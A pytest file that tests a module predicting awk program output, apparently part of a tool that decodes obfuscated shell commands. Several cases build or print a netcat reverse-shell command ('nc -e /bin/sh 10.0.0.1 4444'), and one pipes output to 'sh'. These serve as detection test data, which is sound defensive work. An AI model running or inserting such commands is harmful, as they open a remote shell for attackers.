"""What small awk programs print (vigiles/analysis/awk.py), as gawk and POSIX awk print it."""
import pytest

from vigiles.analysis import awk
from vigiles.analysis.decode import output_of


@pytest.mark.parametrize("args, stdin, expected", [
    (['BEGIN{print "nc -e /bin/sh 10.0.0.1 4444"}'], None, "nc -e /bin/sh 10.0.0.1 4444\n"),  # reads no input
    (['BEGIN { printf "%s -e %s\\n", "nc", "/bin/sh" }'], None, "nc -e /bin/sh\n"),
    (["{print tolower($0)}"], "NC -E /BIN/SH P\n", "nc -e /bin/sh p\n"),
    (["{ print toupper(substr($0, 2)) }"], "xab\n", "AB\n"),
    (["{print $2, $1}"], "e nc\n", "nc e\n"),                                # a comma: one space
    (["{print $2 $1}"], "b a\n", "ab\n"),                                    # side by side: joined
    (["-F:", "{print $3 \" \" $1}"], "x:y:nc\n", "nc x\n"),
    (["-F", ",", "{print $NF}"], "a,b,nc\n", "nc\n"),
    (["{print $5}"], "a b\n", "\n"),                                         # a missing field is empty
    (["{print NR\": \"$0}"], "a\nb\n", "1: a\n2: b\n"),
    (['BEGIN{printf "n"}{printf "%s", $0}END{print "c"}'], "x\n", "nxc\n"),
    (["{print length($0), length()}"], "abc\n", "3 3\n"),
    (['{print sprintf("%s%s", "n", "c")}'], "\n", "nc\n"),
    (["{print $2}"], "x\vls nc\n", "nc\n"),                               # only space, tab, newline split
    (["{print $2}"], "a b\r\n", "b\r\n"),                                 # a CR stays in the field
    (["-F:", "{print NF}"], "\n", "0\n"),                                  # an empty record has no field
    (['BEGIN{print "a"\nprint "b"}'], None, "a\nb\n"),                     # a newline ends a statement
    (['1{print "x"}'], "a\n", "x\n"),                                      # pattern 1, one action
    (['BEGIN{print 110, 0}'], None, "110 0\n"),
    (['BEGIN{print "\\156c"}'], None, "nc\n"),                              # an octal escape
    (["1"], "a\n", "a\n"),
    (["{ print ; print }"], "a\n", "a\na\n"),
    (['BEGIN{a="n"; b=a "c"; print b, unset}'], None, "nc \n"),              # variables; unset is empty
    (["{x = x $0} END{print x}"], "a\nb\n", "ab\n"),
])
def test_awk_prints_what_awk_prints(args, stdin, expected):
    assert awk.output(args, stdin) == expected
    assert output_of("awk", args, stdin) == expected


@pytest.mark.parametrize("args", [
    ["/x/{print}"], ["NR==1"], ["{for(i=1;i<3;i++)print}"], ["{getline; print}"],
    ["{print > \"f\"}"], ["{print | \"sh\"}"], ["-F", "[:,]", "{print $1}"], ["-v", "x=1", "{print}"],
    ["{printf \"%5s\", $1}"], ["{print \"\\q\"}"], ["{print $(1+1)}"], ["{print}", "file"], [],
    ["{print"], ["BEGIN{print \"a\"}", "extra"], ['BEGIN{OFS="-"; print 1,2}'], ["{if(x==1) print}"],
    ["{length = 1; print}"],
    # (gawk and mawk print these otherwise than as written, or differ between themselves)
    ['BEGIN{printf "%c%c", 110, 99}'], ["BEGIN{print 1.0}"], ["BEGIN{print 010}"], ["BEGIN{print 1e3}"],
    ["BEGIN{print 12345678901234567890}"], ["1 1"], ["BEGIN{print TEXTDOMAIN}"], ["{print RT}"],
    ['BEGIN{FIELDWIDTHS="1 1"}{print $2}'], ["BEGIN{print int}"], ['BEGIN{printf "%s"}'],
    ['BEGIN{print "\\777"}'], ['BEGIN{print substr("hello", 0, 2)}'], ['BEGIN{print "\u00e9"}'],
])
def test_awk_forms_not_read_are_unknown(args):
    assert awk.output(args, "a b\n") is None


def test_a_program_that_reads_input_is_unknown_when_its_input_is():
    assert awk.output(["{print}"], None) is None
    assert awk.output(['BEGIN{print "x"} END{print "y"}'], None) is None


def test_output_and_program_are_bounded():
    assert awk.output(["{print $0 $0 $0 $0}"], ("x" * 1000 + "\n") * 400) is None
    assert awk.output(["{print}" + " " * awk.MAX_PROGRAM], "a\n") is None
    doubling = 'BEGIN{x="aaaaaaaaaaaaaaaa";' + "x=x x;" * 16 + "print " + "x " * 600 + "}"
    assert awk.output([doubling], None) is None  # stopped at the bound, not after building gigabytes
    assert awk.output(["{printf \"\"}"], "\n" * 200_000) == ""
    assert awk.output(["{print}"], "caf\u00e9\n") is None
